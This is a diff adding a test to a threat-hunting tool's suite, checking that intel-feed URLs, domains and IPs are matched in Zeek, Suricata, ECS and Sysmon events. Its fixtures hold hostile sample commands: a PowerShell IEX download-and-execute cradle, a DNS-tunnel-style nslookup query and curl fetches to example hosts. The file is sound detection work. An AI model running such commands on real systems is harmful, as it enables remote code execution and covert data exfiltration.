@@ -111,6 +111,77 @@ def levels_are_filtered(folder):
     assert [x[1] for x in said(hunt(folder, "--min-level", "high")[1])] == ["198.51.100.7"]
 
 
+def sysmon1(**more) -> dict:
+    return {"Channel": SYSMON, "EventID": 1, "Computer": "PC9", "@timestamp": "2026-11-20T10:00:01.000Z", "Image": "C:\\y.exe", **more}
+
+
+def zeek(**more) -> dict:
+    return {"ts": 1763632800.0, "uid": "C1", "id.orig_h": "10.0.0.5", "id.orig_p": 1, "id.resp_h": "10.0.0.6", "id.resp_p": 80,
+            "method": "GET", **more}
+
+
+def eve(kind, **more) -> dict:
+    return {"timestamp": "2026-11-20T10:00:03.000000+0000", "event_type": kind, "src_ip": "10.0.0.5", "dest_ip": "10.0.0.6",
+            "flow_id": 1, **more}
+
+
+BAD = "http://shop.example/pay/x.php?id=7"
+ELSEWHERE = [  # an event; what is found in it, by which field
+    # A URL in two fields, or three; with a port; whole; of another host.
+    (zeek(host="shop.example", uri="/pay/x.php?id=7"), ("shop.example/pay/x.php?id=7", "uri")),
+    (zeek(host="SHOP.example:80", uri="/pay/x.php?id=7"), ("shop.example/pay/x.php?id=7", "uri")),
+    (zeek(host="shop.example:8080", uri="/pay/x.php?id=7"), None),
+    (zeek(host="other.example", uri="/pay/x.php?id=7"), None),
+    (zeek(host="shop.example", uri="/pay/x.php"), None),
+    (zeek(host="short.example", uri="/a"), ("short.example/a", "uri")),
+    (zeek(host="203.0.113.80", uri="/b"), ("203.0.113.80/b", "uri")),
+    (eve("http", http={"hostname": "shop.example", "url": "/pay/x.php?id=7", "http_method": "GET"}),
+     ("shop.example/pay/x.php?id=7", "http.url")),
+    (eve("http", http={"hostname": "proxy.example", "url": BAD, "http_method": "GET"}), ("shop.example/pay/x.php?id=7", "http.url")),
+    (eve("http", http={"url": "/pay/x.php?id=7", "http_method": "GET"}), None),
+    ({"@timestamp": "2026-11-20T10:00:03Z", "event": {"category": "web"}, "url": {"domain": "shop.example", "path": "/pay/x.php",
+                                                                                   "query": "id=7"}},
+     ("shop.example/pay/x.php?id=7", "url.path")),
+    ({"@timestamp": "2026-11-20T10:00:03Z", "event": {"category": "web"}, "url": {"domain": "short.example", "path": "/a"}},
+     ("short.example/a", "url.path")),
+    # Command lines and scripts.
+    (sysmon1(CommandLine=f"powershell IEX(New-Object Net.WebClient).DownloadString('{BAD}')"),
+     ("shop.example/pay/x.php?id=7", "CommandLine")),
+    (sysmon1(CommandLine="nslookup -type=txt q7.tunnel.example 10.0.0.1"), ("tunnel.example", "CommandLine")),
+    (sysmon1(CommandLine='curl "https://xn--bcher-kva.example/x"'), ("xn--bcher-kva.example", "CommandLine")),
+    (sysmon1(CommandLine="ping 198.51.100.99"), ("198.51.100.99", "CommandLine")),
+    (sysmon1(CommandLine="ping 198.51.100.9"), None),
+    ({"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104, "Computer": "PC9", "@timestamp": "2026-11-20T10:00:01Z",
+      "ScriptBlockText": "$u = 'b\u00fccher.example'\nInvoke-WebRequest $u"}, ("xn--bcher-kva.example", "ScriptBlockText")),
+    # Names that were asked for.
+    (zeek(query="a.b.c.tunnel.example"), ("tunnel.example", "query")),
+    (eve("dns", dns={"type": "query", "rrname": "A.Tunnel.Example"}), ("tunnel.example", "dns.rrname")),
+    ({"Channel": SYSMON, "EventID": 22, "Computer": "PC9", "@timestamp": "2026-11-20T10:00:02Z", "QueryName": "XN--BCHER-KVA.example."},
+     ("xn--bcher-kva.example", "QueryName")),
+    # On a warning list, in whatever form it was told.
+    (sysmon1(CommandLine="curl http://www.warned.example/x"), None),
+]
+
+
+def wherever_they_stand(folder):
+    (folder / "rule.yml").write_text(RULE)
+    (folder / "feed.txt").write_text(f"{BAD}\nhttps://short.example/a\nhttp://203.0.113.80/b\n*.tunnel.example\nb\u00fccher.example\n"
+                                     "198.51.100.99\nwww.warned.example\nhttp://www.warned.example/x\n")
+    (folder / "warn.json").write_text(json.dumps({"name": "Known", "type": "hostname", "list": ["warned.example"]}))
+    for i, (event, want) in enumerate(ELSEWHERE):
+        event["number"] = i
+    (folder / "events.json").write_text("".join(json.dumps(e) + "\n" for e, _ in ELSEWHERE))
+    for more in ([], ["--no-memo"], ["--repeat", "3"]):
+        r = coloa("hunt", "-q", "-r", folder / "rule.yml", "--intel", folder / "feed.txt", "--warning-list", folder / "warn.json",
+                  "-o", "jsonl", *more, folder / "events.json")
+        got = {}
+        for f in map(json.loads, r.stdout.splitlines()):
+            fields = [x for x in f["coloa.matched_fields"] if x != "coloa.indicator"]
+            got.setdefault(int(f["coloa.event"]["number"]), set()).add((f["coloa.event"]["coloa.indicator"], *fields))
+        for i, (event, want) in enumerate(ELSEWHERE):
+            assert got.get(i, set()) == ({want} if want else set()), (more, event, want, got.get(i), r.stderr)
+
+
 def time_decides(folder):
     warn = write(folder)
     args = ("hunt", "-q", "-r", folder / "rule.yml", "--intel", folder / "opencti.json", *warn, "-o", "jsonl")
@@ -284,6 +355,6 @@ def the_past_is_looked_through(folder):
         assert all("coloa.retro.run" in a for a in node.alerts())
 
 
-run(a_hunt_finds_what_is_in_force, the_same_without_the_memo_and_by_more_judges, levels_are_filtered, time_decides,
+run(a_hunt_finds_what_is_in_force, the_same_without_the_memo_and_by_more_judges, wherever_they_stand, levels_are_filtered, time_decides,
     check_counts_and_names_places, bad_files_are_told, real_logs_have_what_python_finds, a_node_raises_groups_and_reloads,
     the_past_is_looked_through)
